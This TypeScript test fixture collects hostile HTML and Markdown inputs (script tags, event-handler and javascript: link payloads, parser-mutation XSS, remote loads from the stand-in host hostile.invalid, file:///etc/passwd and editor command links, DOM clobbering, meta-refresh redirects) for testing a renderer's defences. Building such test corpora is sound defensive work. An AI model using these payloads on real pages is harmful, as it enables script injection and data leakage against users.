// Hostile texts: what a server, a model or a document could send to make a page run, load or send something.
// Each calls `pwned()` if it runs, or requests something from hostile.invalid if it loads.
import { createRequire } from "node:module";

const remote = "https://hostile.invalid";

const scripts = [
  `<script>pwned()</script>`,
  `<script src="${remote}/x.js"></script>`,
  `<script type="module">pwned()</script>`,
  `<svg><script>pwned()</script></svg>`,
  `<svg><script href="${remote}/svg.js" /></svg>`,
  `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned()"></iframe>`,
  `<object data="javascript:pwned()"></object>`,
  `<object data="${remote}/object"></object>`,
  `<embed src="${remote}/embed">`,
];

const handlers = [
  `<img src=x: onerror=pwned()>`,
  `<img src="x:" oNeRrOr="pwned()">`,
  `<img/src="x:"/onerror=pwned()>`,
  `<svg onload=pwned()></svg>`,
  `<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>`,
  `<details open ontoggle=pwned()>x</details>`,
  `<video><source src="x:" onerror=pwned()></video>`,
  `<input autofocus onfocus=pwned()>`,
  `<select autofocus onfocus=pwned()></select>`,
  `<div onmouseover=pwned() onclick=pwned()>hover or click</div>`,
  `<style onload=pwned()></style>`,
  `<button form=f formaction="javascript:pwned()" onclick=pwned()>x</button>`,
  `<form id=f action="javascript:pwned()"><button>x</button></form>`,
];

const links = [
  `[x](javascript:pwned())`,
  `[x](JaVaScRiPt:pwned())`,
  `[x](&#x6A;avascript:pwned())`,
  `[x](java\tscript:pwned())`,
  `[x](<java\u0000script:pwned()>)`,
  `[x](\u0001javascript:pwned())`,
  `[x](javascript&colon;pwned())`,
  `<javascript:pwned()>`,
  `[x]\n\n[x]: javascript:pwned()`,
  `[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)`,
  `[x](vbscript:pwned())`,
  `[x](command:workbench.action.closeWindow)`,
  `[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22pwned%22%7D)`,
  `[x](vscode://extension/run)`,
  `[x](file:///etc/passwd)`,
  `<a href="javascript:pwned()">x</a>`,
  `<a href=" &#14; javascript:pwned()">x</a>`,
  `<a xlink:href="javascript:pwned()">x</a>`,
  `<svg><a xlink:href="javascript:pwned()"><text>x</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:pwned()">x</maction></math>`,
  `[x](https://a.b"onmouseover="pwned())`,
  `[x](https://a.b "\\"onmouseover=\\"pwned()")`,
  `[x](<https://a.b/" onmouseover=pwned() x=">)`,
];

const images = [
  `![](${remote}/1.png)`,
  `![alt](${remote}/2.png "title")`,
  `![alt](<${remote}/3.png>)`,
  `![ref]\n\n[ref]: ${remote}/4.png`,
  `![full][ref]\n\n[ref]: ${remote}/5.png`,
  `![collapsed][]\n\n[collapsed]: ${remote}/6.png`,
  `[![](${remote}/7.png)](${remote}/link)`,
  `# ![](${remote}/8.png)`,
  `- ![](${remote}/9.png)`,
  `| a |\n| - |\n| ![](${remote}/10.png) |`,
  `![](//hostile.invalid/11.png)`,
  `![](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='pwned()'/%3E)`,
  `![x" onerror="pwned()](${remote}/12.png)`,
  `![x](${remote}/13.png"onerror="pwned())`,
  `<img src="${remote}/14.png">`,
  `<img srcset="${remote}/15.png 1x">`,
  `<picture><source srcset="${remote}/16.png"><img></picture>`,
  `<video poster="${remote}/17.png"></video>`,
  `<video src="${remote}/18.mp4" autoplay></video>`,
  `<audio src="${remote}/19.mp3" preload="auto"></audio>`,
  `<input type="image" src="${remote}/20.png">`,
  `<svg><image href="${remote}/21.png" /></svg>`,
  `<svg><image xlink:href="${remote}/22.png" /></svg>`,
  `<svg><filter id="f"><feImage href="${remote}/23.svg" /></filter><rect width="9" height="9" filter="url(#f)" /></svg>`,
  `<table background="${remote}/24.png"><tr><td>x</td></tr></table>`,
  `<iframe src="${remote}/frame"></iframe>`,
  `<link rel="icon" href="${remote}/25.ico">`,
];

const styles = [
  `<style>body { background: url(${remote}/style.png) }</style>`,
  `<style>@import url(${remote}/import.css);</style>`,
  `<style>@font-face { font-family: h; src: url(${remote}/font.ttf) } * { font-family: h }</style>`,
  `<style>textarea { display: none }</style>`,
  `<link rel="stylesheet" href="${remote}/link.css">`,
  `<link rel="preload" as="image" href="${remote}/preload.png">`,
  `<link rel="prefetch" href="${remote}/prefetch">`,
  `<div style="background: url(${remote}/inline.png); position: fixed; inset: 0">x</div>`,
  `<div style="animation: x" onanimationstart=pwned()>x</div>`,
  `<p class="composer visually-hidden to-end">x</p>`,
];

/** Texts that only become harmful when a parser reinterprets them. */
const mutations = [
  `<noscript><p title="</noscript><img src=x: onerror=pwned()>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=pwned()&gt;">`,
  `<svg></p><style><a id="</style><img src=x: onerror=pwned()>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=pwned()>`,
  `<textarea></textarea><img src=x: onerror=pwned()></textarea>`,
  `<xmp></xmp><img src=x: onerror=pwned()></xmp>`,
  `<!--><img src=x: onerror=pwned()>-->`,
  `<![CDATA[><img src=x: onerror=pwned()>]]>`,
  `<?xml ><img src=x: onerror=pwned()>?>`,
  `</div></article></main><img src=x: onerror=pwned()>`,
  `</title></style></textarea></script><svg onload=pwned()>`,
  '``` "><img src=x: onerror=pwned()>\nx\n```',
  "``` x</code></pre><img src=x: onerror=pwned()>\nx\n```",
  "`</code><img src=x: onerror=pwned()>`",
  `| <img src=x: onerror=pwned()> |\n| - |\n| <svg onload=pwned()> |`,
  `&lt;img src=x: onerror=pwned()&gt;`,
  `\\<img src=x: onerror=pwned()>`,
];

/** Names that could break a page's own script. */
const clobbering = [
  `<form id="acquireVsCodeApi"><input name="postMessage"></form>`,
  `<a id="toHost"></a><a id="toHost" name="post"></a>`,
  `<form name="body"><input name="firstChild"></form>`,
  `__proto__`,
  `constructor`,
  `{0}{1}{2}`,
  `\${pwned()}`,
];

const shapes = [
  "> ".repeat(500) + "deep",
  "- ".repeat(500) + "deep",
  "*".repeat(5000) + "x" + "*".repeat(5000),
  "[".repeat(5000) + "x" + "](".repeat(5000),
  "<div>".repeat(2000),
  "(".repeat(5000) + "\n" + "`".repeat(5000),
  "x".repeat(100_000),
  "\u202Eevil\u202C \u0000 \uFFFE \uD800 \u200B",
  "ﷺ".repeat(500),
  "Z" + "\u0351".repeat(2000),
];

/** Last, because a vulnerable page navigates away. */
export const leavingTexts = [
  `<base href="${remote}/">[x](relative)`,
  `<meta http-equiv="refresh" content="0;url=${remote}/refresh">`,
];

const { tests } = createRequire(import.meta.url)("commonmark-spec") as {
  tests: { markdown: string }[];
};

/** Texts written to do harm. */
export const hostileTexts: string[] = [
  ...[scripts, handlers, links, images, styles, mutations, clobbering, shapes, leavingTexts].flat(),
];

/** The same, ten at a time: a page that shows each in turn takes seconds. */
export const hostileTens: string[][] = Array.from(
  { length: Math.ceil(hostileTexts.length / 10) },
  (_, ten) => hostileTexts.slice(ten * 10, (ten + 1) * 10),
);

/** The examples of CommonMark, which cover its whole syntax. */
export const commonMarkTexts: string[] = tests.map(({ markdown }) => markdown);
